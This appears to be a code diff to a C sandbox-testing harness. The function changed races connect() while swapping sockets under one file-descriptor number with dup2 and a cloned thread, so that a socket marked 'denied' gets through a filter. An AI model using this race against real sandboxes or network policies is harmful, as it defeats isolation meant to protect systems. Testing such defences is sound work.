@@ -23,6 +23,7 @@
 #include "attack.h"
 
 #include "label_by.h"
+#include "race.h"
 #include "ring.h"
 
 #include <linux/aio_abi.h>
@@ -94,8 +95,9 @@ static void* swap_forever(void* unused) {
 }
 
 _Noreturn static void swap(bool process) {
+  struct race race = {.rounds = rounds};
   pthread_t thread;
-  long pid = 0, last = -EPERM;
+  long pid = 0, last = 0;
   dup2(allowed, number_fd);
   if (process) {
     pid = raw(SYS_clone, CLONE_FILES | SIGCHLD, 0, 0, 0, 0);
@@ -109,10 +111,11 @@ _Noreturn static void swap(bool process) {
   } else if (pthread_create(&thread, NULL, swap_forever, NULL) != 0) {
     broken("thread");
   }
-  for (int i = 0; i < rounds && !is_connected(denied); i++) {
+  while (!is_connected(denied) && race_goes_on(&race, last != 0)) {
     long result = try_connect(number_fd);
     if (result == -EPERM) last = result;
-    if (is_connected(allowed)) { /* a fresh one, under the same number */
+    /* A fresh one, under the same number. The server accepts none, and has room for those of the rounds. */
+    if (is_connected(allowed) && !is_overtime(&race)) {
       struct sockaddr none = {.sa_family = AF_UNSPEC};
       connect(allowed, &none, sizeof none);
     }
